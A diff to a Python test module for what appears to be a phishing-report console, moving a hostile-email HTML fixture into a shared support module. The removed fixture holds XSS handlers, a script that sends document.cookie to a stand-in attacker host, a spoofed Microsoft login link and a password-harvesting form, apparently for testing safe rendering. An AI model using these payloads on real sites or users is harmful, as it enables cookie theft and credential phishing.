@@ -8,7 +8,8 @@ import re
 import pytest
 from sqlalchemy import select, update
 
-from tests.test_console_support import (
+from tests.support.console import (
+    HOSTILE_HTML,
     analyse_all,
     count_queries,
     email,
@@ -19,23 +20,6 @@ from tests.test_console_support import (
 )
 from watchword.runtime import Runtime
 from watchword.store.models import AuditEvent, Campaign, Report
-
-HOSTILE_HTML = """<html><head>
-<link rel="stylesheet" href="https://cdn.evil-example.com/x.css">
-<style>@import url(https://css.evil-example.com/i.css); body{background:url(https://bg.evil-example.com/b.png)}
-.hide{display:none} a::after{content:"https://decoy.example.org"}</style>
-<meta http-equiv="refresh" content="0;url=https://refresh.evil-example.com/">
-</head><body onload="window.__pwned='onload'">
-<script>window.__pwned='script'; fetch('https://exfil.evil-example.com/?c='+document.cookie)</script>
-<img src="https://pixel.evil-example.com/open.gif" onerror="window.__pwned='onerror'">
-<img src=x onerror=alert(1)>
-<svg><script>window.__pwned='svg'</script></svg>
-<iframe src="https://frame.evil-example.com/"></iframe>
-<a href="javascript:window.__pwned='js-link'">Verify your account</a>
-<a href="https://login.evil-example.com/o365">https://login.microsoftonline.com/</a>
-<form action="https://post.evil-example.com/"><input name=password></form>
-<p class="hide">hidden words</p><p>Your mailbox is full. Sign in to keep your mail.</p>
-</body></html>"""
 
 
 @pytest.fixture
